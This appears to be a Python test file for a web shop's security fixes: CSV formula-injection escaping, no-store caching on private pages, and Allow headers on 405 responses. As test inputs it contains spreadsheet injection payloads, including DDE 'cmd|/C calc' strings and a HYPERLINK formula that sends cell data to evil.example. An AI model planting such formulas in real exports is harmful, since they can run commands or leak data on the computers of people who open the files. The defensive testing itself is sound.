"""Three findings of the security review, each pinned by a test:

- every CSV the shop hands out publishes formula-like text as text (OWASP "CSV
  injection"): open data, the offline sales report, the income roster, the templates;
- every page with personal or staff-only data answers ``Cache-Control: no-store``,
  while the public anonymous pages keep their caching;
- a 405 carries ``Allow`` (RFC 9110 §15.5.6), on pages and in the API's JSON error.
"""

import csv
import io
from decimal import Decimal

from shop import csv_input
from shop.offline.importer import roster_csv, sales_template_csv
from shop.offline.services import ReportRow, report_csv
from shop.orders.services import apply_payment
from tests.builders import buyer, make_household, make_order, make_product, make_village

# Board names a buyer can give at checkout (at most 20 characters; checkout strips
# leading tabs and line breaks, which the cell rule test covers).
PAYLOADS = ["=2+5+cmd|'/C calc'!A", "@SUM(1+1)", "+1+1", "-2+3"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def column(rows: list[list[str]], name: str) -> list[str]:
    header = rows[0]
    return [row[header.index(name)] for row in rows[1:]]


def formula_like(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def paid_order(product, details, n: int):
    order = make_order([(product, 1)], details)
    apply_payment(order.order_no, f"20261203220014{n:012d}", order.total_fen, paid=True)
    return order


# --- 1. CSV formula injection ---------------------------------------------------------


def test_the_cell_rule_neutralises_text_and_keeps_the_shops_numbers():
    assert csv_input.csv_cell("=1+1") == "'=1+1"
    assert csv_input.csv_cell("-12.00") == "'-12.00"  # text: could be anyone's
    assert csv_input.csv_cell("\t@x") == "'\t@x"
    assert csv_input.csv_cell("\r=1") == "'\r=1"
    assert csv_input.csv_cell("王小明") == "王小明"
    assert csv_input.csv_cell(None) == ""
    assert csv_input.csv_cell(-1200) == -1200  # numbers the shop computed stay numbers
    assert csv_input.csv_cell(Decimal("-12.00")) == Decimal("-12.00")
    assert csv_input.csv_cell(True) == "True"  # not a number
    data = csv_input.csv_bytes(["=h", "n"], [["@a", -5], [Decimal("-0.50"), "+b"]])
    assert rows_of(data) == [["'=h", "n"], ["'@a", "-5"], ["-0.50", "'+b"]]


def test_a_buyers_board_name_from_checkout_is_published_as_text(app, client):
    wine = make_product(price_fen=15800, stock=50)
    for n, payload in enumerate(PAYLOADS):
        paid_order(wine, buyer(board_display="nickname", nickname=payload, organization=payload), n)
    rows = rows_of(client.get("/open-data/love-board.csv").get_data())
    assert set(column(rows, "buyer")) == {"'" + p for p in PAYLOADS}
    assert set(column(rows, "organization")) == {"'" + p for p in PAYLOADS}
    assert set(column(rows, "amount_fen")) == {"15800"}  # numbers stay numbers


def test_staff_entered_names_in_open_data_are_text(app, client):
    village = make_village(name="@SUM(1+1)村")
    make_household(village, group_name="-1+1组")
    wine = make_product(name=HYPERLINK, price_fen=15800, stock=5)
    paid_order(wine, buyer(), 100)
    love = rows_of(client.get("/open-data/love-board.csv").get_data())
    assert column(love, "items")[0].startswith("'=HYPERLINK"), love
    households = rows_of(client.get("/open-data/households.csv").get_data())
    assert column(households, "village") == ["'@SUM(1+1)村"]
    assert column(households, "group") == ["'-1+1组"]
    for url in ("/open-data/love-board.csv", "/open-data/households.csv", "/open-data/ledger.csv"):
        for row in rows_of(client.get(url).get_data()):
            assert not any(formula_like(cell) and not _number(cell) for cell in row), (url, row)


def _number(cell: str) -> bool:
    try:
        int(cell)
    except ValueError:
        return False
    return True


def test_the_offline_sales_report_csv_neutralises_product_names(app, staff_client):
    wine = make_product(name=HYPERLINK, price_fen=15800, stock=5)
    paid_order(wine, buyer(), 200)
    answer = staff_client.get(
        "/console/offline/reports?group=product&start=2026-01-01&end=2027-12-31&format=csv"
    )
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = rows_of(answer.get_data())
    assert rows[1][0].startswith("'=HYPERLINK"), rows


def test_the_report_keeps_negative_money_as_a_number(app):
    rows = rows_of(report_csv("product", [ReportRow("+cmd", count=1, units=-1, amount_fen=-1200)]))
    assert rows[1] == ["'+cmd", "1", "-1", "-12.00", "0.00"]


def test_the_income_roster_and_the_templates_neutralise_text(app):
    make_household(make_village(), code="SJ-001", land_mu=Decimal("2.50"))
    roster = rows_of(roster_csv("land", "2026", rate_fen=34000, payer="@SUM(A1:A9)"))
    assert roster[1][:7] == ["SJ-001", "土地租金", "2026", "2.50", "340.00", "", "'@SUM(A1:A9)"]
    make_product(name="=1+1 果酒", stock=5)
    template = rows_of(sales_template_csv())
    assert template[1][1] == "'=1+1 果酒", template


def test_the_household_import_template_neutralises_the_village_name(app, admin_client):
    make_village(name="=cmd|' /C calc'!A0")
    answer = admin_client.get("/admin/households/template.csv")
    assert answer.status_code == 200
    rows = rows_of(answer.get_data())
    assert "'=cmd|' /C calc'!A0" in rows[1], rows


# --- 2. Cache-Control: no-store on private pages --------------------------------------


def test_pages_with_personal_or_staff_data_say_no_store(app, client, admin_client):
    household = make_household()
    order = paid_order(make_product(), buyer(), 300)
    anonymous = app.test_client()
    for who, url in [
        (anonymous, f"/orders/{order.token}"),
        (anonymous, f"/orders/{order.token}/return"),
        (anonymous, f"/api/v1/orders/{order.token}"),
        (anonymous, "/orders/not-a-token"),  # a 404 under the token pages
        (anonymous, "/console/orders"),  # the redirect to the login page
        (anonymous, "/admin/households"),
        (admin_client, "/admin/households"),
        (admin_client, f"/admin/households/{household.id}/statement"),
        (admin_client, f"/console/orders/{order.order_no}"),
        (admin_client, "/console/offline/reports"),
        (admin_client, "/admin/no-such-page"),  # no endpoint, still staff-only
        (admin_client, "/console/no-such-page"),
        (admin_client, "/admin/households/template.csv"),
        # A logged-in person's view of a public page carries their name and menu.
        (admin_client, "/"),
        (admin_client, "/board"),
    ]:
        response = who.get(url)
        assert response.headers.get("Cache-Control") == "no-store", (url, response.status_code)


def test_public_anonymous_pages_keep_their_caching(app, client):
    product = make_product()
    for url in ("/", f"/p/{product.slug}", "/board", "/results", "/open-data"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" not in (response.headers.get("Cache-Control") or ""), url
    qr = client.get(f"/qr/products/{product.slug}.svg")
    assert "max-age=86400" in qr.headers["Cache-Control"]
    assert "no-store" not in (client.get("/static/site.css").headers.get("Cache-Control") or "")


def test_a_logged_in_persons_static_files_stay_cacheable(app, admin_client):
    response = admin_client.get("/static/site.css")
    assert "no-store" not in (response.headers.get("Cache-Control") or "")


# --- 3. 405 carries Allow --------------------------------------------------------------


def allowed(response) -> set[str]:
    return {m.strip() for m in response.headers.get("Allow", "").split(",") if m.strip()}


def test_a_405_page_says_which_methods_are_allowed(app, client):
    response = client.post("/board")
    assert response.status_code == 405
    assert response.mimetype == "text/html"
    assert {"GET", "HEAD"} <= allowed(response) and "POST" not in allowed(response)
    logout = client.get("/logout")
    assert logout.status_code == 405
    assert "POST" in allowed(logout) and "GET" not in allowed(logout)


def test_a_405_from_the_api_is_json_with_allow(app, client):
    response = client.delete("/api/v1/orders")
    assert response.status_code == 405
    assert response.get_json()["error"]["code"] == "method_not_allowed"
    assert "POST" in allowed(response) and "DELETE" not in allowed(response)
    board = client.post("/api/v1/board", json={})
    assert board.status_code == 405 and "GET" in allowed(board)
